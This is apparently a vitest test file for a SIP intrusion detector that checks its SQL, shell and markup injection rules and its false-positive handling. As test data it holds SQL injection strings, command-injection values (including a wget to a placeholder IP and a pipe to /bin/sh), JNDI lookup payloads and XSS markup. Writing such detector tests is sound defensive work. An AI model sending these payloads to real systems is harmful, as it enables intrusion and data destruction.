import { expect, test } from 'vitest';
import { ask, detectorsWith, from, nothingKnown, SCANNER, view } from './events.ts';
import type { SipView } from '../../../src/model/index.ts';

const rulesFor = (part: Partial<SipView>): string[] => {
  const event = { ...ask(0, from(SCANNER), 'REGISTER', '200'), sip: view(part) };
  return detectorsWith()
    .detect(event, nothingKnown)
    .map(({ rule }) => rule)
    .filter((rule) => rule.startsWith('injection.'));
};
const user = (text: string): Partial<SipView> => ({ from: { display: '', user: text, host: 'h', tag: 't' } });

test.each([
  ["a'or'1'='1", 'injection.sql'],
  ['a%27or%271%27=%271', 'injection.sql'],
  ["1' OR 1=1--", 'injection.sql'],
  ["admin'--", 'injection.sql'],
  ["x') ; DROP TABLE subscriber", 'injection.sql'],
  ['1+UNION+ALL+SELECT+password', 'injection.sql'],
  ["1'/**/or/**/1=1", 'injection.sql'],
  ["1' or 'a' like 'a", 'injection.sql'],
  ["1' like 1", 'injection.sql'],
  ['1%2527 or 1=1', 'injection.sql'],
  [`${'x'.repeat(600)}' or 1=1`, 'injection.sql'],
  ['pg_sleep(10)', 'injection.sql'],
  ['100$(reboot)', 'injection.shell'],
  ['100`id`', 'injection.shell'],
  ['100;wget+http://203.0.113.1/x', 'injection.shell'],
  ['100|/bin/sh', 'injection.shell'],
  ['../../etc/passwd', 'injection.shell'],
  ['$%7Bjndi:ldap://203.0.113.1%7D', 'injection.shell'],
  ['<script>alert(1)</script>', 'injection.markup'],
])('the user %s is %s', (text, rule) => {
  expect(rulesFor(user(text))).toEqual([rule]);
  expect(rulesFor({ requestUser: text })).toEqual([rule]);
  expect(rulesFor({ authUser: text })).toEqual([rule]);
});

test.each([
  "o'brien",
  "cote.d'or",
  "d'or",
  "d'andrea",
  "l'union",
  'union.select-tours',
  'sleepy-hollow',
  'select',
  'drop.table',
  '+49-30-1234567',
  '*21*0301234567#',
  '**9',
  'alice&bob',
  'cats;phone-context=example.com',
  'user;par=u%40example.net',
  "1_unusual.URI~(to-be!sure)&isn't+it$/crazy?,/;;*",
  'sip%3Auser%40example.com',
  'null-%00-null',
  'rooms..12',
  "cote-d'or21",
  "cote%20d'or%20dijon",
  "Hotel d'Or 2",
  "O' and sons",
  '+4930123456;id=5',
  '+4930123456;ping=1',
  '100;sh=1',
  'a&nc=1',
  'tom&id',
])('the user %s is a user', (text) => {
  expect(rulesFor(user(text))).toEqual([]);
});

test('names of people and of phones are no SQL', () => {
  for (const display of [
    'javascript: the band',
    "Conan O'Brien",
    "Côte d'Or 2",
    'AT&T; Sales',
    'Bob "the $" Smith',
    'Select & Co -- Berlin',
  ]) {
    expect(rulesFor({ from: { display, user: '200', host: 'h', tag: 't' } })).toEqual([]);
  }
  for (const agent of ['Cisco-CP8841/12.0.1', "O'Phone 1.0; build=$1", 'snom760/8.9 (a; b) <x>', 'Foo() {x}']) {
    expect(rulesFor({ userAgent: agent, userAgents: [agent] })).toEqual([]);
  }
});

test('any User-Agent value counts, and script in a name', () => {
  expect(rulesFor({ userAgents: ['Yealink', '${jndi:ldap://x}'] })).toEqual(['injection.shell']);
  const display = '<img src=x onerror=alert(1)>';
  expect(rulesFor({ to: { display, user: '200', host: 'h', tag: '' } })).toEqual(['injection.markup']);
});

test('who has answered a challenge from here is not accused', () => {
  const event = {
    ...ask(0, from(SCANNER), 'REGISTER', '200', { credentials: 'bound' }),
    sip: view(user("1' or 1=1--")),
  };
  expect(
    detectorsWith()
      .detect(event, nothingKnown)
      .filter(({ rule }) => rule.startsWith('injection.')),
  ).toEqual([]);
});

test('hostile repetition costs no time', () => {
  const text = `'${' '.repeat(20_000)}${"')".repeat(20_000)}`;
  expect(rulesFor(user(text))).toEqual([]);
});
